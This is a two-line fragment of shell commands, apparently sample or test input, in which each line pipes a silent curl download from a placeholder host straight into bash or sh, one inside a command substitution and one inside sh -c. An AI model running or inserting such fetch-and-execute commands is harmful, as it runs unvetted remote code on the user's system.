x=`curl -s https://x.example | bash`
sh -c 'curl -s https://y.example | sh'
